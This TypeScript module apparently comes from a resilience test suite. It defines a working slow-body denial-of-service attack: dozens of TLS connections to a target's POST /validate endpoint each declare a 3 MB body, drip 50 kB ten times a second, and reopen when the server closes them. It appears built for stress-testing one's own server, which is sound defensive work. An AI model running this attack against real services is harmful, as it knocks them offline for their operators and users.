import { connect, type TLSSocket } from 'node:tls';
import type { Attack, AttackTarget } from '../attack.js';
import { attackTime } from '../attack-time.js';

const SENDERS = 60;
const BODY_BYTES = 3_000_000;
const CHUNK = Buffer.alloc(50_000, 0x20);

/** Bodies that never end: each sender begins a review of 3 MB and sends 50 kB of it ten times a second. */
export const attack: Attack = {
  title: `${SENDERS} senders of reviews of 3 MB whose bodies do not end`,
  async run(target, scale, signal) {
    const until = attackTime(signal, this.durationMs);
    let opened = 0;
    let closed = 0;
    const sockets = new Set<TLSSocket>();
    const open = (index: number): void => {
      if (until.aborted) return;
      opened++;
      const socket = begin(target, `127.0.1.${1 + (index % 6)}`);
      sockets.add(socket);
      socket.on('close', () => {
        closed++;
        sockets.delete(socket);
        setImmediate(() => open(index));
      });
    };
    for (let index = 0; index < SENDERS * scale; index++) open(index);
    const drip = setInterval(() => {
      for (const socket of sockets) if (socket.writableLength < CHUNK.length) socket.write(CHUNK);
    }, 100);
    await new Promise((resolve) => until.addEventListener('abort', resolve));
    clearInterval(drip);
    for (const socket of sockets) socket.destroy();
    return `${opened} connections with slow bodies, ${closed} closed by the server`;
  },
};

function begin({ host, ports, root, serverName }: AttackTarget, localAddress: string): TLSSocket {
  const options = { host, port: ports.https, ca: root, servername: serverName, localAddress };
  const socket = connect(options, () => {
    socket.write(
      `POST /validate HTTP/1.1\r\nHost: ${serverName}\r\nContent-Type: application/json\r\n` +
        `Content-Length: ${BODY_BYTES}\r\n\r\n`,
    );
  });
  socket.on('error', () => undefined).resume();
  return socket;
}
